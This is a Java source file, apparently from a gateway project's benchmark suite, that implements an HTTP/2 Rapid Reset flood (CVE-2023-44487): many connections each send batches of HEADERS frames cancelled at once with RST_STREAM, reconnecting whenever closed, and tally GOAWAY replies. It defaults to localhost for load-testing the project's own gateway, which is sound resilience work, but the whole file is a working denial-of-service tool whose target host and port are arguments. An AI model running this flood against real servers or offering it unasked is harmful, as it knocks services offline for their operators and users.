package io.higressj.bench;

import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;

/**
 * An HTTP/2 Rapid Reset attacker (CVE-2023-44487) for {@code bench/rapid-reset.sh}: each of N
 * connections (prior-knowledge h2c) opens a stream with HEADERS and cancels it at once with
 * RST_STREAM, as fast as the socket takes them, and reconnects whenever the gateway ends the
 * connection. Prints what it sent and how often it was sent away.
 *
 * <p>Usage: {@code RapidResetFlood host port connections seconds}
 */
public final class RapidResetFlood {
  private static final AtomicLong STREAMS = new AtomicLong();
  private static final AtomicLong GOAWAYS = new AtomicLong();
  private static final AtomicLong CONNECTIONS = new AtomicLong();

  private RapidResetFlood() {}

  public static void main(String[] args) throws Exception {
    String host = args.length > 0 ? args[0] : "127.0.0.1";
    int port = args.length > 1 ? Integer.parseInt(args[1]) : 9010;
    int conns = args.length > 2 ? Integer.parseInt(args[2]) : 10;
    long seconds = args.length > 3 ? Long.parseLong(args[3]) : 10;
    long deadline = System.nanoTime() + seconds * 1_000_000_000L;
    List<Thread> threads = new ArrayList<>();
    for (int i = 0; i < conns; i++) {
      Thread t = new Thread(() -> attack(host, port, deadline), "flood-" + i);
      t.setDaemon(true);
      t.start();
      threads.add(t);
    }
    for (Thread t : threads) t.join();
    System.out.printf("rapid-reset: %d connections, %d streams opened and reset (%.0f/s), %d GOAWAYs, %d connects%n",
        conns, STREAMS.get(), STREAMS.get() / (double) seconds, GOAWAYS.get(), CONNECTIONS.get());
  }

  private static void attack(String host, int port, long deadline) {
    while (System.nanoTime() < deadline) {
      try (Socket s = new Socket()) {
        s.connect(new InetSocketAddress(host, port), 2000);
        s.setTcpNoDelay(true);
        CONNECTIONS.incrementAndGet();
        Thread reader = Thread.ofVirtual().start(() -> drain(s));
        OutputStream out = s.getOutputStream();
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        out.write(frame(0x4, 0, 0, new byte[0])); // SETTINGS
        byte[] block = headerBlock(host + ":" + port);
        int stream = 1;
        byte[] batch = new byte[0];
        while (System.nanoTime() < deadline && !s.isClosed() && reader.isAlive()) {
          // 32 HEADERS + RST_STREAM pairs per write
          java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream(32 * 64);
          for (int i = 0; i < 32 && stream > 0; i++, stream += 2) {
            b.write(frame(0x1, 0x4 | 0x1, stream, block)); // END_HEADERS | END_STREAM
            b.write(frame(0x3, 0, stream, new byte[] {0, 0, 0, 8})); // RST_STREAM CANCEL
          }
          batch = b.toByteArray();
          out.write(batch);
          STREAMS.addAndGet(32);
          if (stream < 0) break; // stream ids exhausted: a new connection
        }
      } catch (IOException e) {
        // the gateway closed the connection: connect again
      }
    }
  }

  private static void drain(Socket s) {
    try {
      DataInputStream in = new DataInputStream(s.getInputStream());
      byte[] head = new byte[9];
      while (true) {
        in.readFully(head);
        int len = (head[0] & 0xff) << 16 | (head[1] & 0xff) << 8 | (head[2] & 0xff);
        if (head[3] == 0x7) GOAWAYS.incrementAndGet();
        in.skipNBytes(len);
      }
    } catch (IOException e) {
      try {
        s.close();
      } catch (IOException ignored) {
        // closing anyway
      }
    }
  }

  /** GET / with :authority, HPACK: indexed :method GET, :scheme http, :path /, literal :authority. */
  private static byte[] headerBlock(String authority) {
    byte[] a = authority.getBytes(StandardCharsets.US_ASCII);
    byte[] b = new byte[5 + a.length];
    b[0] = (byte) 0x82;
    b[1] = (byte) 0x86;
    b[2] = (byte) 0x84;
    b[3] = 0x01; // literal without indexing, name :authority (static index 1)
    b[4] = (byte) a.length;
    System.arraycopy(a, 0, b, 5, a.length);
    return b;
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    byte[] f = new byte[9 + payload.length];
    f[0] = (byte) (payload.length >>> 16);
    f[1] = (byte) (payload.length >>> 8);
    f[2] = (byte) payload.length;
    f[3] = (byte) type;
    f[4] = (byte) flags;
    f[5] = (byte) (stream >>> 24 & 0x7f);
    f[6] = (byte) (stream >>> 16);
    f[7] = (byte) (stream >>> 8);
    f[8] = (byte) stream;
    System.arraycopy(payload, 0, f, 9, payload.length);
    return f;
  }
}
